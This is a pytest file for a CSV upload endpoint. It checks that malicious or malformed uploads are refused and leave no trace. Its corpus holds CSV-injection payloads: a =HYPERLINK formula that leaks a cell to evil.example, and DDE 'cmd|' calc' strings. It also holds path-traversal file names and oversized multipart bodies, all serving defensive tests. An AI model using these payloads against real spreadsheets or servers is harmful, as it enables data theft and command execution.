"""Malicious and malformed uploads to POST /public/v1/enrichment/batch/ (issue 6).

Every case gets a 4xx with a JSON message naming the problem (the row and column where one is to
blame), never a 500, and leaves nothing behind: no batch, no batch rows or chunks, no
idempotency key, no file in the data directory or in the temporary directory the multipart
parser spools to, and the balance and ledger as they were. Big inputs are built in memory; the
chunked upload past the limit goes to a real `creator-enrich serve` process.
"""

from __future__ import annotations

import codecs
import csv
import http.client
import io
import select
import socket
import tempfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from decimal import Decimal
from itertools import chain
from pathlib import Path
from typing import Any

import httpx
import pytest
from sqlalchemy import func
from sqlalchemy import select as sql_select

from creator_enrich.batches.exports import FORMULA_PREFIXES
from creator_enrich.db.engine import create_db_engine, read_connection
from creator_enrich.db.schema import Batch, BatchChunk, BatchRow, IdempotencyKey, LedgerEntry
from tests.helpers import assert_money_invariants, csv_of, handles
from tests.processes import Server, cli, server_env

URL = "/public/v1/enrichment/batch/"
RAW = {"enrichment_mode": "raw", "platform": "instagram"}
MB = 1024 * 1024
GRANTED = Decimal(1000)
BOUNDARY = "corpus-boundary-7d1f"


# --- what a refusal must leave behind ---------------------------------------------------------


def _stored(engine: Any, account_id: int) -> dict[str, Any]:
    """Everything an upload could have written for the account."""
    with read_connection(engine) as conn:
        ids = sql_select(Batch.id).where(Batch.account_id == account_id).scalar_subquery()
        known = sql_select(Batch.id).scalar_subquery()

        def count(query: Any) -> int:
            return int(conn.execute(query).scalar_one())

        return {
            "batches": count(sql_select(func.count()).where(Batch.account_id == account_id)),
            "rows": count(sql_select(func.count()).where(BatchRow.batch_id.in_(ids))),
            "chunks": count(sql_select(func.count()).where(BatchChunk.batch_id.in_(ids))),
            "orphan rows": count(sql_select(func.count()).where(BatchRow.batch_id.not_in(known))),
            "orphan chunks": count(
                sql_select(func.count()).where(BatchChunk.batch_id.not_in(known))
            ),
            "idempotency keys": count(
                sql_select(func.count()).where(IdempotencyKey.account_id == account_id)
            ),
            "ledger entries": count(
                sql_select(func.count()).where(LedgerEntry.account_id == account_id)
            ),
        }


def _files(directory: Path) -> set[str]:
    # SQLite's own -wal/-shm/-journal files come and go with other tests' writes.
    return {
        str(p.relative_to(directory))
        for p in directory.rglob("*")
        if not p.name.endswith(("-wal", "-shm", "-journal"))
    }


@pytest.fixture
def spool_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The multipart parser spools big parts to the temporary directory: make it ours."""
    spool = tmp_path / "spool"
    spool.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(spool))
    return spool


def assert_refused(
    response: httpx.Response, status: int, words: tuple[str, ...], field: str | None
) -> dict[str, Any]:
    assert response.status_code == status, response.text[:500]
    assert response.headers["content-type"].startswith("application/json")
    body: dict[str, Any] = response.json()
    assert body["message"] and body["detail"] == body["message"]
    for word in words:
        assert word in body["message"], (word, body["message"])
    if field is not None:
        assert field in body["errors"], body
        for word in words:
            assert any(word in message for message in body["errors"][field]), (word, body)
    return body


# --- how a case is sent -----------------------------------------------------------------------

Send = Callable[[Any, dict[str, str]], httpx.Response]


def upload(content: bytes, filename: str = "input.csv", **fields: str) -> Send:
    def send(client: Any, headers: dict[str, str]) -> httpx.Response:
        return client.post(  # type: ignore[no-any-return]
            URL,
            headers=headers,
            data=fields or RAW,
            files={"file": (filename, content, "text/csv")},
        )

    return send


def body(content: bytes, content_type: str | None) -> Send:
    def send(client: Any, headers: dict[str, str]) -> httpx.Response:
        extra = {"Content-Type": content_type} if content_type is not None else {}
        return client.post(URL, headers={**headers, **extra}, content=content)  # type: ignore[no-any-return]

    return send


def part(name: str, value: bytes, filename: str | None = None, headers: str = "") -> bytes:
    disposition = f'form-data; name="{name}"'
    if filename is not None:
        disposition += f'; filename="{filename}"'
    return (
        f"--{BOUNDARY}\r\nContent-Disposition: {disposition}\r\n{headers}\r\n".encode()
        + value
        + b"\r\n"
    )


def multipart(*parts: bytes, with_fields: bool = True) -> Send:
    """A hand-built multipart body: for what an HTTP client library would refuse to send."""
    fields = [part(k, v.encode()) for k, v in RAW.items()] if with_fields else []
    content = b"".join([*fields, *parts]) + f"--{BOUNDARY}--\r\n".encode()
    return body(content, f"multipart/form-data; boundary={BOUNDARY}")


def form(data: dict[str, str], files: list[tuple[str, Any]] | None = None) -> Send:
    def send(client: Any, headers: dict[str, str]) -> httpx.Response:
        return client.post(URL, headers=headers, data=data, files=files)  # type: ignore[no-any-return]

    return send


# --- the corpus -------------------------------------------------------------------------------


def _zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("handles.csv", "handle\nalice\n")
    return buffer.getvalue()


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data).to_bytes(4, "big")
        return len(data).to_bytes(4, "big") + kind + data + crc

    header = (1).to_bytes(4, "big") * 2 + bytes([8, 2, 0, 0, 0])
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def _quoted(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
DDE = "=cmd|' /C calc'!A0"


@dataclass(frozen=True)
class Case:
    id: str
    send: Send
    status: int
    words: tuple[str, ...]
    field: str | None = "file"


CASES = [
    # Bytes that are not text, or not text we can read faithfully.
    Case("nul byte", upload(b"handle\nalice\nma\x00ry\n"), 400, ("NUL bytes (line 3)",)),
    Case(
        "single 10 MB line",
        upload(b"handle\n" + b"a" * (10 * MB - 100) + b"\n"),
        400,
        ("line 2: a value is longer than 131072 characters",),
    ),
    Case(
        "single line past 10 MB",
        upload(b"a" * (10 * MB + 1)),
        413,
        ("larger than 10485760 bytes",),
    ),
    Case(
        "1,000,000 empty lines after a header",
        upload(b"handle\n" + b"\n" * 1_000_000),
        400,
        ("the file has a header but no rows",),
    ),
    Case(
        "1,000,000 empty CRLF lines",
        upload(b"\r\n" * 1_000_000),
        400,
        ("the file is empty",),
    ),
    Case("empty file", upload(b""), 400, ("the file is empty",)),
    Case(
        "invalid UTF-8: truncated sequence",
        upload("handle\nzoë_\nbad".encode() + b"\xc3(\n"),
        400,
        ("line 3 is not valid UTF-8 (byte 0xc3",),
    ),
    Case(
        "invalid UTF-8: overlong slash",
        upload("handle\nzoë_\n".encode() + b"\xc0\xaf..\xc0\xafetc\n"),
        400,
        ("line 3 is not valid UTF-8 (byte 0xc0",),
    ),
    Case(
        "invalid UTF-8: surrogate",
        upload("handle\nzoë_\nx".encode() + b"\xed\xa0\x80\n"),
        400,
        ("line 3 is not valid UTF-8 (byte 0xed",),
    ),
    Case(
        "invalid UTF-8, not Windows-1252 either",
        upload(b"handle\nalice\nab\x81c\n"),
        400,
        ("neither UTF-8 nor Windows-1252 text (byte 0x81 on line 3)",),
    ),
    Case(
        # Documented: a file with no UTF-8 at all is read as Windows-1252; 0xff is then 'ÿ',
        # which no handle holds, so the only row is invalid and the file has no valid row.
        "invalid UTF-8 read as Windows-1252",
        upload(b"handle\nbob\xff\n"),
        400,
        ("row 1: not a valid instagram handle: contains the character 'ÿ'",),
    ),
    Case(
        "UTF-16 LE without BOM",
        upload("handle\nalice\nbob\n".encode("utf-16-le")),
        400,
        ("UTF-16 text without a byte-order mark",),
    ),
    Case(
        "UTF-16 BE without BOM",
        upload("handle\nalice\nbob\n".encode("utf-16-be")),
        400,
        ("UTF-16 text without a byte-order mark",),
    ),
    Case("zip renamed .csv", upload(_zip(), "handles.csv"), 400, ("ZIP archive",)),
    Case("png renamed .csv", upload(_png(), "handles.csv"), 400, ("PNG image",)),
    Case(
        "gzip renamed .csv",
        upload(b"\x1f\x8b\x08\x00" + zlib.compress(b"handle\nalice\n")),
        400,
        ("gzip-compressed",),
    ),
    Case(
        "binary without a known signature",
        upload(bytes(range(1, 256)) * 4 + b"\x00"),
        400,
        ("NUL bytes",),
    ),
    # Cells a spreadsheet would run: refused, naming the row and the column.
    Case(
        "formula =HYPERLINK, quoted as a spreadsheet saves it",
        upload(csv_of("handle", ["alice", "bob", _quoted(HYPERLINK)]).encode()),
        400,
        ("row 3, column 'handle'", "spreadsheet formula"),
    ),
    Case(
        "formula =HYPERLINK, unquoted",
        upload(csv_of("handle", ["alice", "bob", HYPERLINK]).encode()),
        400,
        ("line 4: malformed CSV",),
    ),
    Case(
        "formula DDE =cmd",
        upload(csv_of("handle", ["alice", DDE]).encode()),
        400,
        ("row 2, column 'handle'", "spreadsheet formula", "cmd|"),
    ),
    Case(
        "formula +",
        upload(csv_of("handle", ["+1+1"]).encode()),
        400,
        ("row 1, column 'handle'", "'+1+1' is a spreadsheet formula"),
    ),
    Case(
        "formula -",
        upload(csv_of("handle", ["alice", "-2+3+cmd|' /C calc'!A0"]).encode()),
        400,
        ("row 2, column 'handle'", "spreadsheet formula"),
    ),
    Case(
        "formula @SUM",
        upload(csv_of("handle", ["@alice", "@SUM(1+1)*cmd|' /C calc'!A0"]).encode()),
        400,
        ("row 2, column 'handle'", "spreadsheet formula"),
    ),
    Case(
        "formula @ DDE",
        upload(csv_of("handle", ["@cmd|' /C calc'!A0"]).encode()),
        400,
        ("row 1, column 'handle'", "spreadsheet formula"),
    ),
    Case(
        "formula in the handle column of several",
        upload(csv_of("name,handle", ["Alice,alice", "Mallory," + _quoted(DDE)]).encode()),
        400,
        ("row 2, column 'handle'", "spreadsheet formula"),
    ),
    Case(
        "formula in a file without header",
        upload(csv_of(None, ["alice", "bob", "=1+1"]).encode()),
        400,
        ("row 3, column 1", "'=1+1' is a spreadsheet formula"),
    ),
    Case(
        "formula in an email file",
        upload(csv_of("email", ["a@b.co", "+x@evil.example"]).encode(), enrichment_mode="basic"),
        400,
        ("row 2, column 'email'", "spreadsheet formula"),
    ),
    # File names: never used to store anything, and refused when they are not plain names.
    Case(
        "path traversal filename",
        upload(b"handle\nalice\n", "../../etc/passwd"),
        400,
        ("the file name '../../etc/passwd' must be a plain file name, without directories",),
    ),
    Case(
        "absolute filename",
        upload(b"handle\nalice\n", "/etc/passwd"),
        400,
        ("'/etc/passwd' must be a plain file name",),
    ),
    Case(
        "windows path filename",
        upload(b"handle\nalice\n", "..\\..\\windows\\win.ini"),
        400,
        ("must be a plain file name",),
    ),
    Case(
        "NUL in filename",
        multipart(part("file", b"handle\nalice\n", filename="a\x00.csv")),
        400,
        ("the file name 'a?.csv' contains control characters",),
    ),
    Case(
        "long filename",
        upload(b"handle\nalice\n", "x" * 300 + ".csv"),
        400,
        ("is longer than 255 bytes",),
    ),
    Case(
        "very long filename",
        upload(b"handle\nalice\n", "x" * 100_000 + ".csv"),
        400,
        ("Maximum header size exceeded",),
        "body",
    ),
    # The form itself.
    Case("missing file field", form(RAW), 400, ("this field is required",)),
    Case(
        "duplicated file field",
        form(RAW, [("file", ("a.csv", b"handle\na\n")), ("file", ("b.csv", b"handle\nb\n"))]),
        400,
        ("send exactly one file",),
    ),
    Case(
        "file sent as a text field",
        form(RAW, [("file", (None, b"handle\nalice\n"))]),
        400,
        ("must be a file upload, not a text field",),
    ),
    Case(
        "file sent as a urlencoded field",
        form({**RAW, "file": "handle\nalice\n"}),
        400,
        ("must be a file upload, not a text field",),
    ),
    Case(
        "json body",
        body(b'{"file": "handle\\nalice\\n", "enrichment_mode": "raw"}', "application/json"),
        415,
        ("must be multipart/form-data", "got 'application/json'"),
        None,
    ),
    Case(
        "csv as the raw body",
        body(b"handle\nalice\n", "text/csv"),
        415,
        ("must be multipart/form-data", "got 'text/csv'"),
        None,
    ),
    Case("empty body", body(b"", None), 415, ("got no Content-Type",), None),
    Case(
        "empty multipart body",
        body(b"", f"multipart/form-data; boundary={BOUNDARY}"),
        400,
        ("this field is required",),
    ),
    Case(
        "multipart without boundary",
        body(b"handle\nalice\n", "multipart/form-data"),
        400,
        ("Missing boundary",),
        "body",
    ),
    Case(
        "very many form parts",
        form({**RAW, **{f"field{i}": "x" for i in range(5000)}}, [("file", ("a.csv", b"a\n"))]),
        400,
        ("Too many fields. Maximum number of fields is 50",),
        "body",
    ),
    Case(
        "very many file parts",
        form(RAW, [(f"file{i}", (f"{i}.csv", b"a\n")) for i in range(500)]),
        400,
        ("Too many files. Maximum number of files is 3",),
        "body",
    ),
    Case(
        "huge part name",
        multipart(part("n" * 1_000_000, b"x"), part("file", b"handle\nalice\n", "a.csv")),
        400,
        ("Maximum header size exceeded",),
        "body",
    ),
    Case(
        "huge part header",
        multipart(part("file", b"handle\nalice\n", "a.csv", headers=f"X-Pad: {'p' * 200_000}\r\n")),
        400,
        ("Maximum header size exceeded",),
        "body",
    ),
    Case(
        "very many part headers",
        multipart(
            part("file", b"handle\nalice\n", "a.csv", "".join(f"X-{i}: y\r\n" for i in range(100)))
        ),
        400,
        ("Maximum header count exceeded",),
        "body",
    ),
    Case(
        "text field over 64 KB",
        form({**RAW, "metadata": "x" * 100_000}, [("file", ("a.csv", b"handle\nalice\n"))]),
        400,
        ("Part exceeded maximum size of 64KB",),
        "body",
    ),
]


@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
def test_a_hostile_upload_is_refused_and_stores_nothing(
    case: Case, account: Any, engine: Any, settings: Any, spool_dir: Path
) -> None:
    before = _stored(engine, account.id)
    data_files = _files(settings.data_dir)
    response = case.send(account.client, account.headers)
    assert_refused(response, case.status, case.words, case.field)
    assert _stored(engine, account.id) == before
    assert before["batches"] == before["rows"] == before["chunks"] == 0
    assert before["orphan rows"] == before["orphan chunks"] == 0
    assert _files(settings.data_dir) == data_files
    assert list(spool_dir.iterdir()) == []
    assert account.credits() == {"credits_available": float(GRANTED), "credits_used": 0.0}
    assert_money_invariants(engine, account.id, GRANTED)


def test_a_refused_upload_does_not_use_up_its_idempotency_key(account: Any, engine: Any) -> None:
    headers = {**account.headers, "Idempotency-Key": "corpus-formula-1"}
    refused = account.client.post(
        URL, headers=headers, data=RAW, files={"file": ("a.csv", f"handle\n{DDE}\n", "text/csv")}
    )
    assert refused.status_code == 400
    assert _stored(engine, account.id)["idempotency keys"] == 0
    good = csv_of("handle", handles(engine, "instagram", 2))
    accepted = account.client.post(
        URL, headers=headers, data=RAW, files={"file": ("a.csv", good, "text/csv")}
    )
    assert accepted.status_code == 200, accepted.text
    assert "idempotent-replayed" not in accepted.headers


def test_utf16_with_a_bom_is_read(account: Any, engine: Any) -> None:
    """Decided and documented: UTF-16 with a byte-order mark is unambiguous, so it is accepted."""
    known = handles(engine, "instagram", 2)
    content = codecs.BOM_UTF16_LE + csv_of("handle", known).encode("utf-16-le")
    response = account.create(content, **RAW)
    assert response.status_code == 200, response.text
    batch_id = response.json()["batch_id"]
    assert account.wait(batch_id)["success_count"] == 2
    assert [row["input_value"] for row in account.results(batch_id)] == known


def test_a_plain_file_name_with_spaces_and_accents_is_fine(account: Any, engine: Any) -> None:
    content = csv_of("handle", handles(engine, "instagram", 1))
    response = account.create(content, filename="Créateurs Q4 (final).csv", **RAW)
    assert response.status_code == 200, response.text


def _numeric(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_no_csv_result_cell_starts_like_a_formula(account: Any, engine: Any) -> None:
    """`@handle` is a valid input that starts with a formula character: the export neutralises
    it, and every other cell (store data included) as well; JSON keeps the raw values."""
    known = handles(engine, "tiktok", 3)
    values = [*known, "@" + known[0], "@nobody_here_zz", "@has space", "@"]
    response = account.create(csv_of("handle", values), enrichment_mode="full", platform="tiktok")
    assert response.status_code == 200, response.text
    batch_id = response.json()["batch_id"]
    account.wait(batch_id)
    table = list(csv.reader(io.StringIO(account.results(batch_id, fmt="csv"))))
    assert len(table) == len(values) + 1
    for row in table:
        for cell in row:
            assert _numeric(cell) or not cell.startswith(FORMULA_PREFIXES), (cell, row[0])
    inputs = [row[0] for row in table[1:]]
    assert inputs[3:] == ["'@" + known[0], "'@nobody_here_zz", "'@has space", "'@"]
    statuses = [row[1] for row in table[1:]]
    assert statuses[3:5] == ["success", "not_found"]
    assert [row["input_value"] for row in account.results(batch_id)] == values


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_a_separator_in_a_value_cannot_start_a_formula_cell(
    account: Any, engine: Any, delimiter: str
) -> None:
    """Spreadsheets in many locales split CSV on ";" (or tab): every exported cell is quoted,
    so "x;=cmd|..." stays one cell whatever the separator, and no cell starts a formula."""
    known = handles(engine, "instagram", 2)
    values = [*known, f"x;{DDE}", f"y\t{DDE}", f"z,{DDE}"]
    content = csv_of("handle", [*known, *(_quoted(v) for v in values[2:])])
    response = account.create(content, **RAW)
    assert response.status_code == 200, response.text
    batch_id = response.json()["batch_id"]
    account.wait(batch_id)
    text = account.results(batch_id, fmt="csv")
    table = list(csv.reader(io.StringIO(text), delimiter=delimiter))
    assert len(table) == len(values) + 1
    for row in table:
        for cell in row:
            assert _numeric(cell) or not cell.startswith(FORMULA_PREFIXES), (cell, delimiter)
    if delimiter == ",":
        assert [row[0] for row in table[1:]] == values
        assert [row[1] for row in table[1:]] == ["success", "success", *["invalid"] * 3]


# --- a chunked body past the limit, against a real server process ------------------------------


@pytest.fixture(scope="module")
def real_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Server, str, Path]]:
    data = tmp_path_factory.mktemp("uploads")
    env = server_env(data, "uploads", redis_db=9)
    cli(env, "db", "upgrade")
    cli(env, "accounts", "create", "uploader", "--credits", "10")
    key = cli(env, "keys", "create", "uploader").stdout.strip()
    server = Server(env)
    server.start()
    try:
        yield server, key, data
    finally:
        server.stop()


def _raw_request(port: int, head: str, chunks: Iterator[bytes]) -> tuple[int, dict[str, Any]]:
    """Send a request head, then body chunks until the server answers; return its answer.

    The server may answer before the body is all sent: sending stops as soon as there is
    something to read (or the server has closed its side), so the answer is never lost.
    """
    raw = head.encode()
    slices = (raw[i : i + 65536] for i in range(0, len(raw), 65536))
    with socket.create_connection(("127.0.0.1", port), timeout=60) as sock:
        for chunk in chain(slices, chunks):
            readable, _, _ = select.select([sock], [], [], 0)
            if readable:
                break
            try:
                sock.sendall(chunk)
            except (BrokenPipeError, ConnectionResetError):
                break
        answer = http.client.HTTPResponse(sock)
        answer.begin()
        return answer.status, {"body": answer.read(), "headers": dict(answer.getheaders())}


def _chunked(total: int) -> Iterator[bytes]:
    """A multipart body in HTTP/1.1 chunks: the form fields, one handle, `total` bytes more."""
    start = b"".join(part(k, v.encode()) for k, v in RAW.items()) + part(
        "file", b"", "big.csv"
    ).removesuffix(b"\r\n")
    start += b"handle\nfirst_handle\n"
    piece = b"some_handle_name\n" * 4096  # 68 KiB
    yield f"{len(start):x}\r\n".encode() + start + b"\r\n"
    sent = 0
    while sent < total:
        yield f"{len(piece):x}\r\n".encode() + piece + b"\r\n"
        sent += len(piece)
    end = f"\r\n--{BOUNDARY}--\r\n".encode()
    yield f"{len(end):x}\r\n".encode() + end + b"\r\n0\r\n\r\n"


def _head(key: str, extra: str) -> str:
    return (
        f"POST {URL} HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {key}\r\n"
        f"Content-Type: multipart/form-data; boundary={BOUNDARY}\r\n{extra}\r\n"
    )


def test_a_chunked_upload_past_10_mb_is_413_and_the_server_keeps_serving(
    real_server: tuple[Server, str, Path],
) -> None:
    server, key, data = real_server
    engine = create_db_engine(server.env["CREATOR_ENRICH_DATABASE_URL"])
    headers = {"Authorization": f"Bearer {key}"}
    files_before = _files(data)
    port = server.port

    for extra, chunks in [
        ("Transfer-Encoding: chunked\r\n", _chunked(16 * MB)),
        # A declared length over the limit is refused before a byte of the body is read.
        ("Content-Length: 20000000\r\n", iter([b"handle\n" * 1000])),
    ]:
        status, answer = _raw_request(port, _head(key, extra), chunks)
        assert status == 413, answer
        assert answer["headers"]["content-type"].startswith("application/json")
        assert b"The request body is larger than 10 MB" in answer["body"]

    with read_connection(engine) as conn:
        assert conn.execute(sql_select(func.count()).select_from(Batch)).scalar_one() == 0
        assert conn.execute(sql_select(func.count()).select_from(BatchRow)).scalar_one() == 0
        assert conn.execute(sql_select(func.count()).select_from(LedgerEntry)).scalar_one() == 1
    assert _files(data) == files_before
    credits = httpx.get(f"{server.url}/public/v1/accounts/credits/", headers=headers, timeout=10)
    assert credits.json() == {"credits_available": 10.0, "credits_used": 0.0}

    # A huge request header never reaches the app: the HTTP server refuses it (uvicorn answers
    # 400 in plain text) and carries on.
    # Its answer may be lost to the reset that closing with unread bytes sends; either is a refusal.
    try:
        status, answer = _raw_request(port, _head(key, f"X-Pad: {'p' * 100_000}\r\n"), iter([]))
    except ConnectionResetError:
        status, answer = 400, {"reset": True}
    assert status in (400, 431), answer

    # Still serving: a chunked upload under the limit is accepted on a new connection.
    status, answer = _raw_request(port, _head(key, "Transfer-Encoding: chunked\r\n"), _chunked(0))
    assert status == 200, answer
    assert b'"og_input_number":1' in answer["body"]
    engine.dispose()
